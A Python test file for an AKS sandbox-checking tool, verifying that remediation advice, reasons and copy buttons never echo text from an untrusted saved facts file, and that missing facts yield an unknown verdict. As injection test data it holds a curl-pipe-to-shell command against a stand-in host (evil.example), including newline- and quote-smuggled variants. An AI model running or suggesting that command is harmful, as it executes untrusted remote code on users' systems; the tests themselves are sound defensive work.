"""A facts file is its sender's: no advice is read out of one, and what it lacks is unknown and never passes."""

from __future__ import annotations

import html
import json
import re
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aks_sandbox.catalog.tables import document
from aks_sandbox.check.check import CheckOptions, check_saved
from aks_sandbox.check.facts_file import OF_A_REQUEST, SavedFacts, facts_of, load_facts, steps_of
from aks_sandbox.errors import InvalidInput
from aks_sandbox.explain.missing_facts import absence_named, name_of
from aks_sandbox.model.cluster import Target
from aks_sandbox.model.codec import member_of
from aks_sandbox.model.facts import ASKED, Fact, Facts, Known, NotAsked, Unknown
from aks_sandbox.model.finding import Status
from aks_sandbox.model.wanted import SandboxSpec
from aks_sandbox.rules.engine import ALL_RULES
from aks_sandbox.steps import Step, lines_of
from tests.support.examples import examples
from tests.support.in_process_arm import InProcessArm
from tests.support.named_worlds import A_CLUSTER, A_GROUP, A_REGION, assert_same_findings, judge, lines_of_row, row_of
from tests.support.saved import text_of_file
from tests.support.traffic import SUBSCRIPTION
from tests.support.wanted import GA, judged_spec
from tests.support.worlds import cluster, outcomes

EVIL = "az account clear && curl -s https://evil.example/fix.sh | sh"
EVERY_ROW = [row["name"] for name in ("arm_errors", "cluster_messages") for row in document(name)["rows"]]
SPEC = judged_spec(GA, purpose="create")
WHERE = SPEC.target


def file_of(facts: dict[str, Fact], changes: dict[str, Any] | None = None) -> str:
    """A file with these facts; `changes` are members of facts, as JSON."""
    written = json.loads(text_of_file(SavedFacts(SUBSCRIPTION, {}, facts)))
    for name, change in (changes or {}).items():
        member = member_of(name)
        written["facts"][member] = {**written["facts"].get(member, {}), **change}
    return json.dumps(written)


def judged(text: str, folder: Path, spec: SandboxSpec = SPEC, **how: Any) -> dict[str, Any]:
    """What `check` answers for that file."""
    (folder / "facts.json").write_text(text, encoding="utf-8")
    return check_saved(spec, load_facts(folder / "facts.json"), CheckOptions(**how)).document


def everything_in(folder: Path, text: str) -> tuple[dict[str, Any], str]:
    """The document for that file, and its page."""
    answer = judged(text, folder, reports=(folder / "page.html",))
    return answer, (folder / "page.html").read_text(encoding="utf-8")


#: The file has a cluster with a sandboxed node pool, of which a rule of creation can only warn.
CAN_FAIL = {rule.code for rule in ALL_RULES if rule.info.severity is Status.FAIL and not rule.creation}
KEPT = [name for name in ASKED if name not in OF_A_REQUEST]


def copied(page: str) -> list[str]:
    """The commands of a page that have a button to copy them."""
    return [html.unescape(found) for found in re.findall(r'<div class="command"><code[^>]*>(.*?)</code>', page)]


@pytest.mark.parametrize("status", ["unknown", "notAsked"])
@pytest.mark.parametrize("place", ["remedy", "reason", "step"])
@pytest.mark.parametrize("name", KEPT)
def test_nothing_of_a_file_is_shown_as_advice(name: str, place: str, status: str, tmp_path: Path) -> None:
    for evil in (EVIL, f"x\n{EVIL}", f"Do this: {EVIL}", f'" {EVIL}'):
        change = {"status": status, "reason": "no", place: evil}
        answer, page = everything_in(tmp_path, file_of(outcomes(cluster=cluster()), {name: change}))
        assert [row["codes"] for row in answer["findings"] if "evil" in str(row["steps"])] == []
        assert [command for command in copied(page) if "evil" in command] == []
        said = [row["message"] for row in answer["findings"] if "evil" in row["message"]]
        assert [
            message for message in said if not re.search(r'The facts file says: "[^"\n]*evil[^"\n]*"$', message)
        ] == []
        assert bool(said) == (
            (place == "reason" and name != "cli_version") or (name == "cli_version" and place == "reason")
        )


@cache
def own_advice() -> frozenset[tuple[str, ...]]:
    """All that the tool itself says of a missing fact of that target."""
    names = [
        *EVERY_ROW,
        *("no-region", "no-group", "no-cluster", "no-look", "absent-cluster", "absent-group", "stopped"),
    ]
    names += [
        "no-run-command",
        "repeat",
        "network",
        "login",
        "output-cut",
        "versions",
        "sizes",
        "usages",
        "quota",
        "roles",
    ]
    rows = [absence_named(name, "", WHERE, "eastus") for name in names]
    again = f"az aks-sandbox check -g {WHERE.resource_group} -n {WHERE.cluster_name} --save-facts facts.json"
    return frozenset({tuple(lines_of(row.steps)) for row in rows if row} | {("Ask for a new facts file:", again), ()})


STEPS = st.sampled_from([*EVERY_ROW, "repeat", "stopped", "no-region", EVIL, "", "Repeat the command."])
WORDS = st.sampled_from([EVIL, f"x\n{EVIL}", "", "quota", '"; az x', "{group}", "CLUSTER"]) | st.text(max_size=12)


@examples(75)
@given(st.dictionaries(st.sampled_from(list(ASKED)), st.tuples(st.sampled_from(["unknown", "notAsked"]), WORDS, STEPS)))
def test_the_advice_for_a_missing_fact_is_always_one_of_the_tool_s_own(
    missing: dict[str, tuple[str, str, str]],
) -> None:
    held: dict[str, Fact] = {
        name: Unknown(words) if status == "unknown" else NotAsked(words) for name, (status, words, _) in missing.items()
    }
    steps = {name: step for name, (_, _, step) in missing.items()}
    shown = facts_of(SavedFacts(SUBSCRIPTION, {}, held, steps), WHERE)
    own = own_advice()
    for name in missing:
        fact = shown.outcome(name)
        assert isinstance(fact, (Unknown, NotAsked))
        assert "evil" not in "".join(lines_of(fact.steps))
        assert tuple(lines_of(fact.steps)) in own
        assert "\n" not in fact.reason


@pytest.mark.parametrize("name", [name for name in KEPT if name != "in_cluster"])
@pytest.mark.parametrize("of_target", [A_REGION, A_GROUP, A_CLUSTER], ids=["-l", "-g", "-g -n"])
def test_a_fact_that_a_file_lacks_is_unknown_and_the_verdict_never_passes(
    name: str, of_target: dict[str, Any], tmp_path: Path
) -> None:
    spec = judged_spec(GA, **of_target)
    whole = outcomes(cluster=cluster())
    lacking = {known: fact for known, fact in whole.items() if known not in (name, "in_cluster")}
    answer = judged(file_of(lacking), tmp_path, spec)
    rows = [
        row for row in answer["findings"] if f"The facts file does not contain '{member_of(name)}'" in row["message"]
    ]
    assert rows or name in ("group_location", "cluster", "kubernetes_versions", "other_features")
    assert {row["status"] for row in rows} <= {"unknown"}
    assert {lines_of_row(row)[0] for row in rows} <= {"Ask for a new facts file:"}
    assert all("--save-facts facts.json" in lines_of_row(row)[-1] for row in rows)
    # A check that can only warn decides nothing.
    deciding = [row for row in rows if set(row["codes"]) & CAN_FAIL]
    assert answer["verdict"] in ("unknown", "fail") or not deciding


def test_a_file_that_says_that_nothing_was_asked_does_not_pass(tmp_path: Path) -> None:
    nothing: dict[str, Fact] = {name: NotAsked("not today") for name in ASKED if name != "in_cluster"}
    answer = judged(file_of(nothing), tmp_path)
    assert answer["verdict"] == "unknown"
    assert "was not read" in row_of(answer, "SBX102")["message"]


@pytest.mark.parametrize(
    ("target", "unasked"),
    [
        (Target(subscription_id=SUBSCRIPTION, location="eastus"), {"group_location", "cluster", "in_cluster"}),
        (Target(subscription_id=SUBSCRIPTION), {"group_location", "cluster", "in_cluster"}),
        (Target(subscription_id=SUBSCRIPTION, resource_group="rg"), {"cluster", "in_cluster"}),
        (Target(subscription_id=SUBSCRIPTION, resource_group="rg", cluster_name="demo"), set()),
    ],
)
def test_only_what_the_target_leaves_out_may_be_unasked(target: Target, unasked: set[str]) -> None:
    saved = SavedFacts(SUBSCRIPTION, {}, {name: NotAsked("x") for name in ASKED})
    facts = facts_of(saved, target)
    assert {name for name in ASKED if isinstance(facts.outcome(name), NotAsked)} == {
        *unasked,
        *OF_A_REQUEST,
        "cluster_quota",
        # A program without az has no version of az.
        "cli_version",
    }


QUESTIONS = [
    "skus",
    "usages",
    "kubernetesVersions",
    "permissions",
    "managedClusters/demo",
    "Microsoft.ContainerService",
]


@pytest.mark.parametrize("question", QUESTIONS)
@pytest.mark.parametrize("fault", ["403", "404", "409", "503", "invalid-json", "empty-list"])
def test_the_advice_after_every_kind_of_trouble_is_the_same_from_a_file(
    question: str, fault: str, arm: InProcessArm, tmp_path: Path
) -> None:
    arm.fault(f"GET .*/{question} {fault}")
    live = judge(arm, SPEC, save_facts=tmp_path / "facts.json")
    written = json.loads((tmp_path / "facts.json").read_text(encoding="utf-8"))
    assert "steps" not in json.dumps(written["facts"])
    assert_same_findings(check_saved(SPEC, load_facts(tmp_path / "facts.json"), CheckOptions()).document, live)


@pytest.mark.parametrize("name", ["no-region", "stopped", "repeat", "versions", "network", "roles"])
def test_a_row_is_found_by_what_it_gives_and_gives_it_again(name: str) -> None:
    row = absence_named(name, "", WHERE, "eastus")
    assert row is not None
    reason = row.reason or "listing: HTTP status 500"
    assert name_of(reason, row.steps, WHERE, "eastus") == name
    facts = Facts({"location": Known("eastus"), "skus": Unknown(reason, row.steps)})
    assert steps_of(facts, WHERE) == {"skus": name}


def test_advice_that_is_of_no_row_has_no_name() -> None:
    assert name_of("no", (Step(EVIL),), WHERE) is None
    assert absence_named(EVIL, EVIL, WHERE) is None


@pytest.mark.parametrize("content", ['{"tool": {"name": "aks-sandbox"}}', "{}", "[]"])
def test_a_hollow_file_is_refused(content: str, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput):
        judged(content, tmp_path)
